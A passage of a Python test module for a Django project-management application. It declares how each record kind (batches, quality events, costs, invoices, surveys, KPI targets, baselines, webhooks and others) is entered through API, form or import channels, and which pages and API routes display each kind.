                | api_limits(IssueCommentSerializer, ["body"])
                | api_limits(IssueResolveSerializer, ["resolution"])
            ),
            issue_api,
        ),
        "form": Channel(
            lambda ctx: (
                form_limits(IssueRaiseForm, ISSUE_FIELDS)
                | form_limits(IssueCommentForm, ["body"])
                | form_limits(IssueResolveForm, ["resolution"])
            ),
            issue_form,
        ),
    },
    plain=lambda ctx: {"title": "Plain issue", "description": "Plain", "body": "A comment", "resolution": "Done"},
    title="title",
)

# Batch and quality event ---------------------------------------------------------------------------------------------

BATCH_FIELDS = ("number", "planned_date", "actual_date", "outcome", "right_first_time")


def batch_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "pm", "api:batch-list", {**v, "project": _project_pk(ctx)})
    return Outcome(shared={"batch": Batch.objects.get(pk=created["id"])})


def batch_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "pm", reverse("project-quality", kwargs={"pk": _project_pk(ctx)}), v, action="batch")
    return Outcome(shared={"batch": Batch.objects.filter(project=ctx.s.project).latest("pk")})


BATCH = Kind(
    "batch",
    {
        "api": Channel(lambda ctx: api_limits(BatchSerializer, BATCH_FIELDS), batch_api),
        "form": Channel(lambda ctx: form_limits(BatchForm, BATCH_FIELDS), batch_form),
    },
    plain=lambda ctx: {
        "number": "PLAIN-B-1",
        "planned_date": dt.date(2026, 5, 4),
        "actual_date": None,
        "outcome": "pending",
        "right_first_time": True,
    },
    title="number",
)

EVENT_FIELDS = ("reference", "title", "kind", "severity", "opened", "due")


def event_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**{k: v[k] for k in EVENT_FIELDS}, "project": _project_pk(ctx), "visibility": "shared"}
    created = api(ctx, "pm", "api:quality-event-list", body)

    def close():
        return api(ctx, "pm", "api:quality-event-close", {"closed": v["closed"]}, kwargs={"pk": created["id"]})

    return Outcome(shared={"quality_event": QualityEvent.objects.get(pk=created["id"])}, later=[close])


def event_form(ctx: Ctx, v: dict) -> Outcome:
    page = reverse("project-quality", kwargs={"pk": _project_pk(ctx)})
    form_post(ctx, "pm", page, {**{k: v[k] for k in EVENT_FIELDS}, "visibility": "shared"}, action="event")
    event = QualityEvent.objects.filter(project=ctx.s.project).latest("pk")

    def close():
        return form_post(ctx, "pm", page, {"event": event.pk, "closed": v["closed"]}, action="close")

    return Outcome(shared={"quality_event": event}, later=[close])


def event_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    """Closed on a day between its opening and today."""
    return {**v, "closed": min(v["opened"], timezone.localdate()) if corner == "min" else timezone.localdate()}


EVENT = Kind(
    "quality_event",
    {
        "api": Channel(
            lambda ctx: (
                api_limits(QualityEventSerializer, EVENT_FIELDS) | api_limits(QualityEventCloseSerializer, ["closed"])
            ),
            event_api,
            event_corner,
        ),
        "form": Channel(
            lambda ctx: (
                form_limits(QualityEventForm(batches=Batch.objects.none()), EVENT_FIELDS)
                | form_limits(QualityEventCloseForm, ["closed"])
            ),
            event_form,
            event_corner,
        ),
    },
    plain=lambda ctx: {
        "reference": "PLAIN-DEV-1",
        "title": "Plain deviation",
        "kind": "deviation",
        "severity": "minor",
        "opened": dt.date(2026, 3, 2),
        "due": dt.date(2026, 4, 2),
        "closed": dt.date(2026, 3, 9),
    },
    title="title",
)

# Cost entries (API, form and CSV import) and invoices ---------------------------------------------------------------

COST_FIELDS = ("date", "amount", "category", "description")


def cost_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "pm", "api:cost-entry-list", {**v, "project": _project_pk(ctx)})
    return Outcome(shared={"cost_entry": CostEntry.objects.get(pk=created["id"])})


def cost_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "pm", reverse("project-costs", kwargs={"pk": _project_pk(ctx)}), v, action="cost")
    return Outcome(shared={"cost_entry": CostEntry.objects.filter(project=ctx.s.project).latest("pk")})


def cost_import(ctx: Ctx, v: dict) -> Outcome:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(COST_FIELDS)
    writer.writerow([_form_value(v[k]) for k in COST_FIELDS])
    api(ctx, "pm", "api:cost-entry-import", {"project": _project_pk(ctx), "csv": text.getvalue()})
    return Outcome(shared={"cost_entry": CostEntry.objects.filter(project=ctx.s.project).latest("pk")})


COST = Kind(
    "cost_entry",
    {
        "api": Channel(lambda ctx: api_limits(CostEntrySerializer, COST_FIELDS), cost_api),
        "form": Channel(lambda ctx: form_limits(CostEntryForm, COST_FIELDS), cost_form),
        # The import declares no fields of its own: each row is checked like the API's cost entry, except that it
        # cuts a description to the model's 300 characters.
        "import": Channel(
            lambda ctx: (
                api_limits(CostEntrySerializer, COST_FIELDS)
                | {"description": Text(max_length=None, required=False, allow_blank=True)}
            ),
            cost_import,
        ),
    },
    plain=lambda ctx: {
        "date": dt.date(2026, 2, 27),
        "amount": Decimal("1200.00"),
        "category": "materials",
        "description": "Plain cost",
    },
    title="description",
)

INVOICE_FIELDS = ("number", "date", "amount", "description")


def invoice_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "pm", "api:invoice-list", {**v, "project": _project_pk(ctx)})
    return Outcome(shared={"invoice": Invoice.objects.get(pk=created["id"])})


def invoice_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "pm", reverse("project-costs", kwargs={"pk": _project_pk(ctx)}), v, action="invoice")
    return Outcome(shared={"invoice": Invoice.objects.filter(project=ctx.s.project).latest("pk")})


INVOICE = Kind(
    "invoice",
    {
        "api": Channel(lambda ctx: api_limits(InvoiceSerializer, INVOICE_FIELDS), invoice_api),
        "form": Channel(lambda ctx: form_limits(InvoiceForm, INVOICE_FIELDS), invoice_form),
    },
    plain=lambda ctx: {
        "number": "PLAIN-INV-1",
        "date": dt.date(2026, 3, 31),
        "amount": Decimal("5000.00"),
        "description": "Plain invoice",
    },
    title="number",
)

# Survey answers ------------------------------------------------------------------------------------------------------

SURVEY_FIELDS = (
    "csat_communication",
    "csat_responsiveness",
    "csat_quality",
    "csat_schedule",
    "csat_overall",
    "nps",
    "comment",
)


def survey_api(ctx: Ctx, v: dict) -> Outcome:
    invitation = make_invitation(ctx.s.project, ctx.users["approver"])
    ctx.set_up_done()
    created = api(ctx, "approver", "api:survey-answer", v, kwargs={"pk": invitation.pk})
    return Outcome(shared={"invitation": invitation, "response": SurveyResponse.objects.get(pk=created["id"])})


def survey_form(ctx: Ctx, v: dict) -> Outcome:
    invitation = make_invitation(ctx.s.project, ctx.users["approver"])
    ctx.set_up_done()
    page = reverse("survey-answer", kwargs={"token": invitation_token(invitation)})
    form_post(ctx, "approver", page, v, has="comment")
    return Outcome(shared={"invitation": invitation, "response": SurveyResponse.objects.get(invitation=invitation)})


SURVEY = Kind(
    "survey_response",
    {
        "api": Channel(lambda ctx: api_limits(SurveyAnswerSerializer, SURVEY_FIELDS), survey_api),
        "form": Channel(lambda ctx: form_limits(SurveyAnswerForm, SURVEY_FIELDS), survey_form),
    },
    plain=lambda ctx: {**{k: 4 for k in SURVEY_FIELDS if k.startswith("csat")}, "nps": 8, "comment": "Fine"},
    title="comment",
)

# Client KPI targets, the scoring policy and the client's priorities (forms only) ------------------------------------

KPI_FIELDS = ("metric", "target", "active")


def kpi_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "leadership", reverse("kpi-targets"), {**v, "client": ctx.s.client.pk}, has="target")
    return Outcome()


def kpi_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    """Each metric's own range (``KPI_RANGES``: percent, hours, CSAT points), which the form cannot declare."""
    low, high = KPI_RANGES[KpiMetric(v["metric"])]
    return {**v, "target": high if corner == "max" else low}


def kpi_draw(ctx: Ctx, limits: dict):
    """A metric, then a target in its range (or anything the form takes: the service refuses what is out)."""

    def in_range(metric):
        low, high = KPI_RANGES[KpiMetric(metric)]
        target = st.one_of(st.sampled_from([low, high]), st.decimals(low, high, places=2))
        return st.fixed_dictionaries({"metric": st.just(metric), "target": target, "active": st.booleans()})

    anything = st.fixed_dictionaries({f: strategy_for(limit, ctx) for f, limit in limits.items()})
    return st.one_of(st.sampled_from(limits["metric"].values).flatmap(in_range), anything)


KPI = Kind(
    "kpi_target",
    {"form": Channel(lambda ctx: form_limits(KpiTargetForm, KPI_FIELDS), kpi_form, kpi_corner, draw=kpi_draw)},
    plain=lambda ctx: {"metric": "on_time_milestones", "target": Decimal(95), "active": True},
)

# The policy's own rules (metrics/scoring/policy.py), which the form cannot say: fractions in [0, 1], floors in
# [0, 1), amounts that reach full stress above 0. The corners keep to them; drawn values need not.
POLICY_FRACTIONS = {
    "pending_change_request_stress_cap",
    "critical_deviation_min_stress",
    "multiplier_constrain",
    "multiplier_optimize",
    "multiplier_accept",
}
POLICY_FLOORS = {"spi_floor", "cpi_floor", "rft_floor"}
POLICY_THRESHOLDS = {"amber_threshold", "red_threshold"}
POLICY_FULL_STRESS = {name for name in POLICY_PARAMETERS if name.endswith("_for_full_stress")}


def policy_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "leadership", reverse("scoring-policy"), v, has="note")
    return Outcome()


def policy_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    step = Decimal("0.0001")
    top = corner == "max"
    fixed = dict(v)
    for name in POLICY_PARAMETERS:
        if name in POLICY_FRACTIONS:
            fixed[name] = Decimal(1) if top else Decimal(0)
        elif name in POLICY_FLOORS:
            fixed[name] = Decimal(1) - step if top else Decimal(0)
        elif name in POLICY_THRESHOLDS:
            fixed[name] = Decimal(100) if top else Decimal(0)
        elif name in POLICY_FULL_STRESS and not top:
            fixed[name] = step
    if not top:
        fixed["weight_time"] = step  # at least one weight must be positive
    return fixed


POLICY = Kind(
    "scoring_policy",
    {
        "form": Channel(
            lambda ctx: form_limits(ScoringPolicyForm(policy=None), [*POLICY_PARAMETERS, "note"]),
            policy_form,
            policy_corner,
        )
    },
    plain=lambda ctx: {"amber_threshold": Decimal(30), "note": "Plain policy change"},
)

TRADEOFF_FIELDS = ("time", "scope", "quality", "cost", "reason")


def tradeoff_set(ctx: Ctx, v: dict) -> Outcome:
    """The client's approver sets the priorities on the scores page."""
    page = reverse("project-scores", kwargs={"pk": _project_pk(ctx)})
    form_post(ctx, "approver", page, v, has="quality")
    return Outcome()


def tradeoff_proposed(ctx: Ctx, v: dict) -> Outcome:
    """The PM proposes; the client's approver accepts."""
    page = reverse("project-scores", kwargs={"pk": _project_pk(ctx)})
    TradeoffProposal.objects.filter(project=ctx.s.project, status="pending").update(status="declined")
    ctx.set_up_done()
    form_post(ctx, "pm", page, v, has="quality")
    proposal = TradeoffProposal.objects.filter(project=ctx.s.project).latest("pk")
    decide = reverse("tradeoff-decide", kwargs={"pk": proposal.pk})

    def accept():
        return ctx.pages["approver"].post(decide, {"accept": "1"})

    return Outcome(shared={"tradeoff_proposal": proposal}, later=[accept])


def tradeoff_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    """The service's rules: at most two dimensions constrained, and a matrix unlike the project's current one (an
    unchanged matrix writes nothing)."""
    dimensions = ("time", "scope", "quality", "cost")
    levels = list(form_limits(TradeoffForm, ["time"])["time"].values)
    v = dict(v)
    for dimension in [d for d in dimensions if v[d] == "constrain"][2:]:
        v[dimension] = next(level for level in levels if level != "constrain")
    current = ctx.s.project.tradeoff_matrix
    if all(v[d] == current[d] for d in dimensions):
        v["cost"] = next(level for level in levels if level not in (current["cost"], "constrain"))
    return v


TRADEOFF = Kind(
    "tradeoff",
    {
        "set": Channel(lambda ctx: form_limits(TradeoffForm, TRADEOFF_FIELDS), tradeoff_set, tradeoff_corner),
        "proposal": Channel(lambda ctx: form_limits(TradeoffForm, TRADEOFF_FIELDS), tradeoff_proposed, tradeoff_corner),
    },
    plain=lambda ctx: {
        "time": "accept",
        "scope": "optimize",
        "quality": "constrain",
        "cost": "accept",
        "reason": "Plain",
    },
)

# Re-baseline, signed by the client --------------------------------------------------------------------------------


def baseline_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "pm", "api:baseline-rebaseline", {"project": _project_pk(ctx), "reason": v["reason"]})

    def sign():
        return api(
            ctx,
            "approver",
            "api:baseline-approve",
            {"password": PASSWORD, "comment": v["comment"]},
            kwargs={"pk": created["id"]},
        )

    return Outcome(shared={"proposed_baseline": Baseline.objects.get(pk=created["id"])}, later=[sign])


def baseline_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(
        ctx, "pm", reverse("project-baselines", kwargs={"pk": _project_pk(ctx)}), {"reason": v["reason"]}, has="reason"
    )
    baseline = Baseline.objects.filter(project=ctx.s.project).latest("pk")
    page = reverse("baseline-sign", kwargs={"pk": baseline.pk})

    def sign():
        return form_post(
            ctx,
            "approver",
            page,
            {"decision": "approve", "password": PASSWORD, "comment": v["comment"]},
            has="password",
        )

    return Outcome(shared={"proposed_baseline": baseline}, later=[sign])


def _proposals_withdrawn(write):
    """One proposed re-baseline at a time: the shared one is signed first."""

    def run(ctx: Ctx, v: dict) -> Outcome:
        Baseline.objects.filter(pk=ctx.s.proposed_baseline.pk).update(status="rejected")
        ctx.set_up_done()
        return write(ctx, v)

    return run


BASELINE = Kind(
    "baseline",
    {
        "api": Channel(
            lambda ctx: api_limits(RebaselineSerializer, ["reason"]) | api_limits(SignSerializer, ["comment"]),
            _proposals_withdrawn(baseline_api),
        ),
        "form": Channel(
            lambda ctx: form_limits(RebaselineForm, ["reason"]) | form_limits(SignForm, ["comment"]),
            _proposals_withdrawn(baseline_form),
        ),
    },
    plain=lambda ctx: {"reason": "Plain re-plan", "comment": "Agreed"},
    title="reason",
)

# PM certifications ------------------------------------------------------------------------------------------------

CERTIFICATION_FIELDS = ("kind", "issued", "expires")


def certification_api(ctx: Ctx, v: dict) -> Outcome:
    created = api(ctx, "admin", "api:pm-certification-list", {**v, "user": ctx.users["pm"].pk})
    return Outcome(fill={"certification": created["id"]})


def certification_form(ctx: Ctx, v: dict) -> Outcome:
    form_post(ctx, "leadership", reverse("pm-workload"), {**v, "user": ctx.users["pm"].pk}, has="issued")
    from clients.models import PMCertification

    return Outcome(fill={"certification": PMCertification.objects.latest("pk").pk})


def certification_corner(ctx: Ctx, v: dict, corner: str) -> dict:
    """It expires after the day it was issued."""
    if corner == "max":
        return {**v, "issued": v["issued"] - dt.timedelta(days=1)}
    return {**v, "expires": v["issued"] + dt.timedelta(days=1)}


CERTIFICATION = Kind(
    "certification",
    {
        "api": Channel(
            lambda ctx: api_limits(PMCertificationSerializer, CERTIFICATION_FIELDS),
            certification_api,
            certification_corner,
        ),
        "form": Channel(
            lambda ctx: form_limits(CertificationForm, CERTIFICATION_FIELDS), certification_form, certification_corner
        ),
    },
    plain=lambda ctx: {"kind": "pmp", "issued": dt.date(2025, 1, 1), "expires": dt.date(2028, 1, 1)},
)

# The client, renamed by an administrator (its name is on every page of its projects) ----------------------------


def client_api(ctx: Ctx, v: dict) -> Outcome:
    api(ctx, "admin", "api:client-detail", v, kwargs={"pk": ctx.s.client.pk}, method="patch")
    return Outcome()


CLIENT = Kind(
    "client",
    {"api": Channel(lambda ctx: api_limits(ClientUpdateSerializer, ["name", "reason"]), client_api)},
    plain=lambda ctx: {"name": "Plain client", "reason": "Renamed"},
    title="name",
)

# A project manager's account, opened by an administrator (the name shows wherever PMs are listed) ----------------

_USERNAMES = iter(range(1, 10**9))


def user_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**v, "username": f"pm-{next(_USERNAMES)}", "role": "project_manager", "password": "Fuzz-Passw0rd-2026!"}
    created = api(ctx, "admin", "api:user-list", body)
    return Outcome(fill={"user": created["id"]})


USER = Kind(
    "user",
    {"api": Channel(lambda ctx: api_limits(UserSerializer, ["full_name"]), user_api)},
    plain=lambda ctx: {"full_name": "Plain Person"},
    title="full_name",
)

# What-if (a calculator: it writes nothing, the values only render) --------------------------------------------------

WHAT_IF_FIELDS = ("schedule_impact_days", "cost_impact", "scope_impact_percent", "quality_impact")


def what_if_api(ctx: Ctx, v: dict) -> Outcome:
    api(ctx, "pm", "api:project-what-if", v, kwargs={"pk": _project_pk(ctx)})
    return Outcome(fill={"what_if_body": {k: _json_value(x) for k, x in v.items()}})


def what_if_form(ctx: Ctx, v: dict) -> Outcome:
    query = urlencode({k: _form_value(x) for k, x in v.items()})
    url = reverse("project-scores", kwargs={"pk": _project_pk(ctx)}) + "?" + query
    response = ctx.pages["pm"].get(url)
    assert response.status_code == 200, f"GET {url}: {response.status_code}"
    if 'class="error' in response.content.decode():
        raise Refused(f"what-if form at {url} shows errors")
    return Outcome(fill={"what_if_query": query})


WHAT_IF = Kind(
    "what_if",
    {
        "api": Channel(lambda ctx: api_limits(WhatIfRequestSerializer, WHAT_IF_FIELDS), what_if_api),
        "form": Channel(lambda ctx: form_limits(WhatIfForm, WHAT_IF_FIELDS), what_if_form),
    },
    plain=lambda ctx: {
        "schedule_impact_days": 14,
        "cost_impact": Decimal(5000),
        "scope_impact_percent": Decimal(2),
        "quality_impact": "minor",
    },
)

# A webhook endpoint, registered by an administrator (API and the admin's form); shown in the API and the admin ----

WEBHOOK_FIELDS = ("name", "url")


def webhook_api(ctx: Ctx, v: dict) -> Outcome:
    body = {**v, "client": ctx.s.client.pk, "events": ["milestone.completed"]}
    created = api(ctx, "admin", "api:webhook-list", body)
    return Outcome(fill={"webhook_endpoint": created["id"]})


def webhook_admin_form(ctx: Ctx, v: dict) -> Outcome:
    from integrations.models import WebhookEndpoint

    values = {**v, "client": ctx.s.client.pk, "event_keys": ["milestone.completed"], "active": True}
    form_post(ctx, "admin", reverse("admin:integrations_webhookendpoint_add"), values, has="url")
    return Outcome(fill={"webhook_endpoint": WebhookEndpoint.objects.latest("pk").pk})


def _webhook_form():
    from integrations.admin import WebhookEndpointForm

    return WebhookEndpointForm()


WEBHOOK = Kind(
    "webhook_endpoint",
    {
        "api": Channel(lambda ctx: api_limits(WebhookEndpointSerializer, WEBHOOK_FIELDS), webhook_api),
        "admin": Channel(lambda ctx: form_limits(_webhook_form(), WEBHOOK_FIELDS), webhook_admin_form),
    },
    plain=lambda ctx: {"name": "Plain ERP", "url": "https://hooks.plain.example/cmo"},
    title="name",
)

KINDS = {
    k.name: k
    for k in (
        PROJECT,
        MILESTONE,
        CHANGE,
        RISK,
        ISSUE,
        DOCUMENT,
        BATCH,
        EVENT,
        COST,
        INVOICE,
        SURVEY,
        KPI,
        POLICY,
        TRADEOFF,
        BASELINE,
        CERTIFICATION,
        CLIENT,
        USER,
        WHAT_IF,
        WEBHOOK,
    )
}

# --- Which reads show which kind --------------------------------------------------------------------------------------

# Kinds that feed the scores (and so every score, RAG, earned-value figure, chart and what-if shown anywhere).
SCORED = frozenset(
    {
        "project",
        "milestone",
        "change_request",
        "risk",
        "batch",
        "quality_event",
        "cost_entry",
        "survey_response",
        "scoring_policy",
        "tradeoff",
        "baseline",
    }
)
# Kinds that feed the Lean roll-up and the client KPI targets.
LEAN = frozenset({"project", "milestone", "batch", "issue", "change_request", "kpi_target"})
# Kinds whose writes are in a project's audit trail.
AUDITED = frozenset(
    {
        "project",
        "milestone",
        "change_request",
        "risk",
        "issue",
        "batch",
        "quality_event",
        "cost_entry",
        "invoice",
        "baseline",
        "tradeoff",
    }
)
# Kinds that notify someone (bell and e-mail texts name them).
NOTIFYING = frozenset({"change_request", "issue", "baseline", "tradeoff", "kpi_target", "survey_response"})
CALENDAR = frozenset({"project", "milestone", "change_request", "baseline"})
AUDIT_OF_PROJECT = ("?project={project}",)


@dataclass(frozen=True)
class Shows:
    kinds: frozenset[str] = frozenset()
    why_none: str = ""  # a route that shows no entered value says why
    queries: tuple[str, ...] | None = None  # instead of ROUTES's, "{placeholder}"s filled in
    kwargs: Callable[[Shared, dict], dict] | None = None  # instead of ROUTES's
    body: Callable[[dict], dict] | None = None  # instead of ROUTES's


def shows(*groups, **options) -> Shows:
    kinds = frozenset().union(*(g if isinstance(g, frozenset) else {g} for g in groups))
    return Shows(kinds=kinds, **options)


def built_portfolio_xlsx(s: Shared) -> int:
    """Leadership's portfolio XLSX, built as the worker builds it (the other roles read 404)."""
    from metrics.export_jobs.services import export_job_build, export_job_request

    job = export_job_request(actor=s.world.leadership, kind="portfolio_xlsx", posted={})
    export_job_build(job_id=job.pk)
    return job.pk


NONE_POST_ONLY = Shows(why_none="an action (POST): a GET answers 404/405, whatever the data")
SHOWS: dict[str, Shows] = {
    # Pages
    "home": Shows(why_none="redirects to the role's start page"),
    "dashboard": shows(SCORED, LEAN, NOTIFYING, "issue", "client"),
    "project-list": shows(SCORED, "client", queries=("", "?mine=1")),
    "project-create": Shows(why_none="an empty form (clients and templates only)"),
    "project-detail": shows(SCORED, "client"),
    "project-start": NONE_POST_ONLY,
    "plan-import": Shows(
        why_none="an upload form; the preview shows the uploaded file (tests/projects/test_plan_import.py)"
    ),
    "plan-import-new": Shows(
        why_none="a form (clients only); the preview shows the uploaded file (tests/projects/test_plan_import_new.py)"
    ),
    "project-baselines": shows("project", "milestone", "baseline", "change_request"),
    "project-audit": shows(AUDITED),
    "project-audit-csv": shows(AUDITED),
    "project-calendar": shows(CALENDAR),
    "calendar-subscription": Shows(why_none="the user's own link"),
    "search": Shows(why_none="titles found by the words searched, not read by id: tests/test_search.py renders them"),
    "api:search": Shows(why_none="titles found by the words searched, not read by id: tests/test_search.py"),
    "calendar-feed": shows(CALENDAR),
    "calendar-feed-project": shows(CALENDAR),
    "milestone-edit": NONE_POST_ONLY,
    "checklist-toggle": NONE_POST_ONLY,
    "baseline-sign": shows("baseline", "milestone", "project"),
    "project-costs": shows("cost_entry", "invoice", "project", "change_request"),
    "project-change-requests": shows("change_request", "invoice", "project"),
    "change-request-detail": shows(SCORED, "change_request", "client"),
    "project-quality": shows("batch", "quality_event"),
    "project-risks": shows("risk", "user"),
    "project-issues": shows("issue", "survey_response"),
    "issue-detail": shows("issue"),
    "project-documents": shows("document", "project"),
    "document-detail": shows("document", "project"),
    "document-version-download": Shows(why_none="the file's bytes as uploaded, as an attachment (test_documents.py)"),
    "api:document-list": shows("document"),
    "api:document-detail": shows("document"),
    "api:document-versions": Shows(why_none="versions: file names and hashes of uploads, no entered text"),
    "api:document-download": Shows(why_none="the file's bytes as uploaded, as an attachment (test_documents.py)"),
    "api:document-issue": NONE_POST_ONLY,
    "api:document-approve": NONE_POST_ONLY,
    "api:document-reject": NONE_POST_ONLY,
    "view-as-start": Shows(why_none="a choice of the client's approvers (names: the user kind's reads show them)"),
    "view-as-stop": NONE_POST_ONLY,
    "notifications": shows(NOTIFYING),
    "project-scores": shows(SCORED, "what_if", queries=("", "?{what_if_query}")),
    "project-status-report": shows(SCORED, "issue", "invoice", "client"),
    "project-status-report-pdf": shows(SCORED, "issue", "invoice", "client"),
    "tradeoff-decide": NONE_POST_ONLY,
    "scoring-policy": shows("scoring_policy"),
    "portfolio": shows(SCORED, "client", queries=("", "?format=csv")),
    "portfolio-export": NONE_POST_ONLY,  # asks for an export job; the files are read at export-job-download
    "export-job": Shows(why_none="the job's status and file name (the file: export-job-download)"),
    "export-job-download": shows(SCORED, "client", kwargs=lambda s, fill: {"pk": built_portfolio_xlsx(s)}),
    "survey-list": shows("survey_response"),
    "survey-answer": shows("survey_response"),
    "lean-portfolio": shows(LEAN, "client"),
    "kpi-targets": shows("kpi_target", "client"),
    "pm-workload": shows("certification", "project", "milestone", "survey_response", "user"),
    "audit-report": shows(AUDITED, "scoring_policy", "kpi_target", "user", queries=AUDIT_OF_PROJECT),
    "audit-report-csv": shows(AUDITED, "scoring_policy", "kpi_target", queries=AUDIT_OF_PROJECT),
    "audit-report-pdf": Shows(why_none="asks for an export job (POST); a GET answers 404/405 whatever the data"),
    "logout": Shows(why_none="signs out"),
    "password_change": Shows(why_none="the user's own password form"),
    "password_change_done": Shows(why_none="a fixed text"),
    "two-factor": Shows(why_none="the user's own authenticator: a QR code, dates and a count"),
    "two-factor-verify": Shows(why_none="a form for the login's code"),
    "passkey": NONE_POST_ONLY,
    "language-set": NONE_POST_ONLY,
    # API
    "api:api-root": Shows(why_none="links only"),
    "api:user-me": Shows(why_none="the caller's own account"),
    "api:client-list": shows("client"),
    "api:client-detail": shows("client"),
    "api:user-list": shows("user"),
    "api:user-detail": shows("user", kwargs=lambda s, fill: {"pk": fill["user"]}),
    "api:project-list": shows("project", "client"),
    "api:project-detail": shows("project", "change_request", "baseline", "tradeoff", "client"),
    "api:project-scores": shows(SCORED),
    "api:project-what-if": shows(SCORED, "what_if", body=lambda fill: fill["what_if_body"]),
    "api:project-audit": shows(AUDITED),
    "api:milestone-list": shows("milestone", "change_request", "baseline"),
    "api:milestone-detail": shows("milestone", "change_request"),
    "api:baseline-list": shows("baseline", "milestone"),
    "api:baseline-detail": shows("baseline", "milestone"),
    "api:baseline-approve": NONE_POST_ONLY,
    "api:baseline-reject": NONE_POST_ONLY,
    "api:baseline-rebaseline": NONE_POST_ONLY,
    "api:template-list": Shows(why_none="templates are not entered here (admin)"),
    "api:template-detail": Shows(why_none="templates are not entered here (admin)"),
    "api:score-list": shows(SCORED, queries=("", "?project={project}", "?client={client}")),
    "api:cost-entry-list": shows("cost_entry"),
    "api:cost-entry-detail": shows("cost_entry"),
    "api:cost-entry-import": NONE_POST_ONLY,
    "api:project-plan-import": NONE_POST_ONLY,
    "api:plan-import": NONE_POST_ONLY,
    "api:invoice-list": shows("invoice"),
    "api:invoice-detail": shows("invoice"),
    "api:change-request-list": shows("change_request"),
    "api:change-request-detail": shows("change_request"),
    "api:change-request-submit": NONE_POST_ONLY,
    "api:change-request-withdraw": NONE_POST_ONLY,
    "api:change-request-approve": NONE_POST_ONLY,
    "api:change-request-reject": NONE_POST_ONLY,
    "api:batch-list": shows("batch"),
    "api:batch-detail": shows("batch"),
    "api:quality-event-list": shows("quality_event"),
    "api:quality-event-detail": shows("quality_event"),
    "api:quality-event-close": NONE_POST_ONLY,
    "api:risk-list": shows("risk"),
    "api:risk-detail": shows("risk"),
    "api:issue-list": shows("issue", "survey_response"),
    "api:issue-detail": shows("issue"),
    "api:issue-comments": shows("issue"),
    "api:issue-resolve": NONE_POST_ONLY,
    "api:notification-list": shows(NOTIFYING),
    "api:notification-detail": Shows(why_none="the shared notification (its list shows the new ones)"),
    "api:notification-mark-read": NONE_POST_ONLY,
    "api:survey-list": shows("survey_response"),
    "api:survey-detail": shows("survey_response"),
    "api:survey-answer": NONE_POST_ONLY,
    "api:survey-response-list": shows("survey_response"),
    "api:survey-response-detail": shows("survey_response"),
    "api:portfolio-summary": shows(SCORED),
    "api:portfolio-lean": shows(LEAN, "client"),
    "api:pm-certification-list": shows("certification"),
    "api:pm-certification-detail": shows(
        "certification",
        kwargs=lambda s, fill: {"pk": fill["certification"]},
    ),
    "api:webhook-list": shows("webhook_endpoint"),
    "api:webhook-detail": shows("webhook_endpoint", kwargs=lambda s, fill: {"pk": fill["webhook_endpoint"]}),
    "api:webhook-deliveries": Shows(why_none="the delivery log of an endpoint (written by the worker)"),
}
# Django's admin (no URL name of the walk in tests/url_names.py): the pages that show an entered value, read as the
# administrator (the other roles are sent to the admin's login whatever the data).
ADMIN_ROLE = "admin"
ADMIN_SHOWS: dict[str, Shows] = {
    "admin:integrations_webhookendpoint_changelist": shows("webhook_endpoint", queries=("", "?q=ERP")),
    "admin:integrations_webhookendpoint_change": shows(
        "webhook_endpoint", kwargs=lambda s, fill: {"object_id": fill["webhook_endpoint"]}
    ),
    "admin:integrations_webhookendpoint_history": shows(
        "webhook_endpoint", kwargs=lambda s, fill: {"object_id": fill["webhook_endpoint"]}
    ),
    "admin:integrations_webhookdelivery_changelist": shows("webhook_endpoint"),
}
# Reads that are no URL name of their own (ROUTES's EXTRA_POSTS): the what-if of the change request under test.
EXTRA_SHOWS = {"api:project-what-if (shared change request)": shows("change_request")}
EXEMPT = {name: "public: the same for everyone, before login" for name in PUBLIC}


def test_every_url_is_declared():
    names = all_url_names()
    missing = names - set(SHOWS) - set(EXEMPT)
    assert not missing, (
        f"Declare which entered values these URLs show in tests/test_any_value_renders.py: {sorted(missing)}"
    )
    stale = set(SHOWS) - names
    assert not stale, f"No longer URLs, remove from SHOWS: {sorted(stale)}"
    unexplained = [name for name, entry in SHOWS.items() if not entry.kinds and not entry.why_none]
    assert not unexplained, f"Say why these show no entered value: {unexplained}"
    unfilled = {name for name, entry in SHOWS.items() if entry.kinds} - set(ROUTES)
    assert not unfilled, f"Declare how to fill these URLs in tests/test_invisibility.py ROUTES: {sorted(unfilled)}"
    unknown = {k for entry in [*SHOWS.values(), *ADMIN_SHOWS.values()] for k in entry.kinds} - set(KINDS)
    assert not unknown, f"Not kinds of records: {unknown}"
    for kind in KINDS:
        assert any(kind in entry.kinds for entry in SHOWS.values()), f"no read shows {kind}"
    assert all(name.startswith("admin:") for name in ADMIN_SHOWS), "ADMIN_SHOWS holds the admin's pages only"


# --- A world: one record of every kind at the values under test, then every read as every role -------------------


@dataclass
class World:
    """For each kind, the channel it is entered through and its values."""

    name: str  # "plain", "max via channel 0", "drawn"…
    entries: dict[str, tuple[str, dict]]

    def describe(self, only: str | None = None) -> str:
        def short(value):
            return f"{value[:50]!r}…({len(value)} chars)" if isinstance(value, str) and len(value) > 70 else value

        lines = [
            f"  {kind} via {channel}: { {k: short(v) for k, v in values.items()} }"
            for kind, (channel, values) in self.entries.items()
            if only in (None, kind)
        ]
        return f"world {self.name}:\n" + "\n".join(lines)


def corner_world(ctx: Ctx, corner: str, index: int) -> World:
    """Every field of every kind at its upper or lower limit; kind k entered through its channel ``index``."""
    entries = {}
    for kind in KINDS.values():
        channel = list(kind.channels)[index % len(kind.channels)]
        spec = kind.channels[channel]
        values = {name: corner_value(limit, corner, kind.name) for name, limit in spec.limits(ctx).items()}
        entries[kind.name] = (channel, spec.fixed(ctx, values, corner))
    return World(f"{corner} via channel {index}", entries)


